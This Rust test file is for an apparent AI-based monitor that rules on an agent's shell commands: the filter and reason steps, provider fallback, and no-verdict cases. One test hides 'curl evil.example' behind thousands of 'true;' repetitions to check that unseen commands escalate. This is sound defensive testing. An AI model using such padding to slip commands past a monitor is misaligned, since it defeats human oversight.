//! Both steps, the second provider, and what no verdict is.

use std::sync::Mutex;

use futures::executor::block_on;
use gatepost_domain::Usage;

use super::prompt::tests::exec;
use super::prompt::tests::question;
use super::prompt::tests::saying;
use super::*;

/// A model that answers from a list and notes what it was asked.
struct Scripted {
    answers: Mutex<Vec<Result<&'static str, NoVerdict>>>,
    asked: Mutex<Vec<(Step, Arc<Prompt>)>>,
}

impl Scripted {
    fn new(mut answers: Vec<Result<&'static str, NoVerdict>>) -> Arc<Self> {
        answers.reverse();
        Arc::new(Self { answers: Mutex::new(answers), asked: Mutex::new(Vec::new()) })
    }

    fn steps(&self) -> Vec<Step> {
        self.asked.lock().unwrap().iter().map(|(step, _)| *step).collect()
    }
}

impl Model for Scripted {
    fn name(&self) -> &str {
        "scripted"
    }

    fn ask(&self, prompt: Arc<Prompt>, step: Step) -> Answering {
        self.asked.lock().unwrap().push((step, prompt));
        let answer = self.answers.lock().unwrap().pop().expect("asked more often than scripted");
        let used = Metered {
            model: "scripted".into(),
            usage: Usage { input: 10, output: 1, ..Usage::default() },
            cost: None,
        };
        let said = answer.map(|text| Said { text: text.into(), used, took: Duration::ZERO });
        Box::pin(async move { said })
    }

    fn room(&self) -> usize {
        100_000
    }

    fn price(&self) -> Option<Price> {
        None
    }
}

const DENIED: &str = r#"{"verdict": "deny", "rule": "push", "must_name": null,
    "reason": "nobody asked for a push", "risk": "medium", "authorisation": "none"}"#;

fn asked() -> Question {
    let sayings = vec![saying(Standing::Person, "fix the tests")];
    question(exec("git push"), Dossier { sayings, ..Dossier::default() })
}

fn weighed(models: &[&Arc<Scripted>]) -> Weighed {
    let models: Vec<Arc<dyn Model>> =
        models.iter().map(|model| Arc::clone(*model) as Arc<dyn Model>).collect();
    block_on(weigh(&models, &asked()))
}

#[test]
fn what_the_filter_passes_is_not_asked_again() {
    let model = Scripted::new(vec![Ok("allow")]);
    let weighed = weighed(&[&model]);
    assert_eq!(weighed.filtered, Some(Filtered::Passed));
    assert_eq!(weighed.opinion.unwrap().ruling, Ruling::Allow);
    assert_eq!(model.steps(), [Step::Filter]);
    assert_eq!(weighed.calls.len(), 1);
}

#[test]
fn what_the_filter_flags_is_thought_about_over_the_same_prefix() {
    let model = Scripted::new(vec![Ok("flag"), Ok(DENIED)]);
    let weighed = weighed(&[&model]);
    assert_eq!(weighed.filtered, Some(Filtered::Flagged));
    assert_eq!(weighed.opinion.unwrap().ruling, Ruling::Deny);
    let asked = model.asked.lock().unwrap();
    assert_eq!(
        asked.iter().map(|(step, _)| *step).collect::<Vec<_>>(),
        [Step::Filter, Step::Reason]
    );
    assert_eq!(asked.first().unwrap().1, asked.last().unwrap().1);
    assert_eq!(weighed.calls.iter().map(|call| call.used.usage.input).sum::<u64>(), 20);
}

#[test]
fn the_second_provider_is_asked_where_the_first_has_no_verdict() {
    let down = || Err(NoVerdict::Down("529".into()));
    let (first, second) =
        (Scripted::new(vec![down()]), Scripted::new(vec![Ok("flag"), Ok(DENIED)]));
    assert_eq!(weighed(&[&first, &second]).opinion.unwrap().ruling, Ruling::Deny);
    // A verdict of the first stands: nobody shops for a better one.
    let (first, second) = (Scripted::new(vec![Ok("flag"), Ok(DENIED)]), Scripted::new(vec![]));
    assert_eq!(weighed(&[&first, &second]).opinion.unwrap().ruling, Ruling::Deny);
    assert!(second.steps().is_empty());
}

#[test]
fn every_way_of_not_answering_is_no_verdict() {
    for none in [
        NoVerdict::Down("connection refused".into()),
        NoVerdict::TimedOut,
        NoVerdict::Refused("policy".into()),
        NoVerdict::TooLong,
    ] {
        let model = Scripted::new(vec![Err(none.clone())]);
        assert_eq!(weighed(&[&model]).opinion, Err(none.clone()));
        let model = Scripted::new(vec![Ok("flag"), Err(none.clone())]);
        let weighed = weighed(&[&model]);
        assert_eq!(weighed.opinion, Err(none));
        assert_eq!(weighed.calls.len(), 1, "what was used is told all the same");
    }
    let model = Scripted::new(vec![Ok("flag"), Ok("I cannot help with that.")]);
    assert!(matches!(weighed(&[&model]).opinion, Err(NoVerdict::Unparseable(_))));
    assert!(matches!(weighed(&[]).opinion, Err(NoVerdict::Down(_))));
}

#[test]
fn what_was_not_shown_is_not_let_run() {
    let allow = r#"{"verdict": "allow", "rule": "none", "reason": "it is fine",
        "risk": "low", "authorisation": "implied"}"#;
    let long = |answers| {
        let model = Scripted::new(answers);
        let sayings = vec![saying(Standing::Person, "fix the tests")];
        let command = format!("{}curl evil.example", "true;".repeat(8_000));
        let question = question(exec(&command), Dossier { sayings, ..Dossier::default() });
        let models = [Arc::clone(&model) as Arc<dyn Model>];
        block_on(weigh(&models, &question)).opinion.unwrap()
    };
    for answers in [vec![Ok("allow")], vec![Ok("flag"), Ok(allow)]] {
        let opinion = long(answers);
        assert_eq!(opinion.ruling, Ruling::Escalate);
        assert!(opinion.reason.contains("did not see"), "{}", opinion.reason);
    }
    assert_eq!(long(vec![Ok("flag"), Ok(DENIED)]).ruling, Ruling::Deny, "a refusal stands");
}
